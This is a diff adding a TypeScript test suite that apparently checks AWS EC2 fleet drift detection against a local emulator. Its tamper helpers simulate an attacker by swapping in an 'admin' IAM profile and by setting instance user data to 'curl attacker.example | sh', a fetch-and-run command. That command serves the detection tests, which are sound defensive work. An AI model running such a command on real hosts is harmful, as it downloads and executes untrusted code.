@@ -1,0 +1,120 @@
+import {
+  ResumeProcessesCommand,
+  StartInstanceRefreshCommand,
+  SuspendProcessesCommand,
+} from '@aws-sdk/client-auto-scaling';
+import {
+  CreateLaunchTemplateVersionCommand,
+  CreateNetworkInterfaceCommand,
+  DeleteLaunchTemplateCommand,
+  DescribeIamInstanceProfileAssociationsCommand,
+  ModifyInstanceAttributeCommand,
+  ReplaceIamInstanceProfileAssociationCommand,
+  type RequestLaunchTemplateData,
+  RunInstancesCommand,
+} from '@aws-sdk/client-ec2';
+import { describe, expect, test } from 'vitest';
+import { autoScalingClient, ec2Client } from '../../src/aws/clients.ts';
+import { systemClock } from '../../src/aws/clock.ts';
+import { awsFleet } from '../../src/aws/fleet.ts';
+import { localCloud } from './cloud.ts';
+import { type FleetSetting, fleetSuite } from './fleet.suite.ts';
+import { type Scene, setScene } from './fleet-scene.ts';
+
+localCloud();
+const USER_DATA = Buffer.from('#!/bin/sh\necho hello\n').toString('base64');
+
+async function clients() {
+  const ec2 = ec2Client('instances');
+  const autoScaling = autoScalingClient('instances');
+  return { ec2, autoScaling, fleet: awsFleet(ec2, autoScaling), scene: await setScene(ec2, autoScaling) };
+}
+
+async function make(): Promise<FleetSetting> {
+  const { ec2, autoScaling, fleet, scene } = await clients();
+  const modify = (InstanceId: string, change: object) =>
+    ec2.send(new ModifyInstanceAttributeCommand({ InstanceId, ...change }));
+  return {
+    fleet,
+    newGroup: async () => {
+      const { id } = await scene.newSecurityGroup();
+      return scene.newGroup({ UserData: USER_DATA, SecurityGroupIds: [id], IamInstanceProfile: { Name: 'web' } });
+    },
+    newInstance: async () => {
+      const run = { ImageId: scene.imageId, MinCount: 1, MaxCount: 1, SubnetId: scene.subnetId };
+      const { Instances = [] } = await ec2.send(new RunInstancesCommand(run));
+      return Instances[0]?.InstanceId ?? '';
+    },
+    newInterface: async () => {
+      const { NetworkInterface: face } = await ec2.send(
+        new CreateNetworkInterfaceCommand({ SubnetId: scene.subnetId }),
+      );
+      return face?.NetworkInterfaceId ?? '';
+    },
+    changeUserData: async (id) => {
+      await modify(id, { UserData: { Value: Buffer.from('curl attacker.example | sh') } });
+    },
+    changeGroups: async (id) => {
+      await modify(id, { Groups: [(await scene.newSecurityGroup()).id] });
+    },
+    changeProfile: async (id) => {
+      const Filters = [{ Name: 'instance-id', Values: [id] }];
+      const found = await ec2.send(new DescribeIamInstanceProfileAssociationsCommand({ Filters }));
+      const AssociationId = found.IamInstanceProfileAssociations?.[0]?.AssociationId;
+      const IamInstanceProfile = { Name: 'admin' };
+      await ec2.send(new ReplaceIamInstanceProfileAssociationCommand({ AssociationId, IamInstanceProfile }));
+    },
+    suspendLaunch: async (AutoScalingGroupName) => {
+      await autoScaling.send(new SuspendProcessesCommand({ AutoScalingGroupName, ScalingProcesses: ['Launch'] }));
+    },
+    resumeLaunch: async (AutoScalingGroupName) => {
+      await autoScaling.send(new ResumeProcessesCommand({ AutoScalingGroupName, ScalingProcesses: ['Launch'] }));
+    },
+    startRefresh: async (AutoScalingGroupName) => {
+      await autoScaling.send(new StartInstanceRefreshCommand({ AutoScalingGroupName }));
+    },
+    pass: (seconds) => systemClock.sleep(seconds * 1000),
+  };
+}
+
+describe('fleet', () => fleetSuite(make));
+
+describe('the template as baseline', () => {
+  async function driftOf(data: (scene: Scene, group: { id: string; name: string }) => RequestLaunchTemplateData) {
+    const { fleet, scene, ec2 } = await clients();
+    const { instanceIds } = await scene.newGroup(data(scene, await scene.newSecurityGroup()));
+    const estate = await fleet.read({ type: 'instance', id: instanceIds[0] ?? '' });
+    if (estate.kind === 'missing') throw new Error('the instance is missing');
+    return { fleet, ec2, estate, drift: await fleet.drift(estate) };
+  }
+
+  test.each<[string, (scene: Scene, group: { id: string; name: string }) => RequestLaunchTemplateData]>([
+    ['by interface', (_, { id }) => ({ NetworkInterfaces: [{ DeviceIndex: 0, Groups: [id] }] })],
+    ['by id, without user data or profile', (_, { id }) => ({ SecurityGroupIds: [id] })],
+    [
+      'with its profile by ARN',
+      (_, { id }) => ({
+        SecurityGroupIds: [id],
+        IamInstanceProfile: { Arn: 'arn:aws:iam::123456789012:instance-profile/path/web' },
+      }),
+    ],
+  ])('that names its security groups %s is matched', async (_title, data) => {
+    const { drift } = await driftOf(data);
+    expect(drift).toMatchObject({ kind: 'compared', differences: [] });
+  });
+
+  test('a newer version of the template is not drift', async () => {
+    const { fleet, ec2, estate } = await driftOf((_, { id }) => ({ SecurityGroupIds: [id], UserData: USER_DATA }));
+    const LaunchTemplateId = estate.group?.members[0]?.launchTemplate?.id;
+    const LaunchTemplateData = { UserData: Buffer.from('another').toString('base64') };
+    await ec2.send(new CreateLaunchTemplateVersionCommand({ LaunchTemplateId, LaunchTemplateData }));
+    expect(await fleet.drift(estate)).toMatchObject({ kind: 'compared', differences: [] });
+  });
+
+  test('with the template deleted, drift is unknown', async () => {
+    const { fleet, ec2, estate } = await driftOf((_, { id }) => ({ SecurityGroupIds: [id] }));
+    const LaunchTemplateId = estate.group?.members[0]?.launchTemplate?.id;
+    await ec2.send(new DeleteLaunchTemplateCommand({ LaunchTemplateId }));
+    expect((await fleet.drift(estate)).kind).toBe('unknown');
+  });
+});
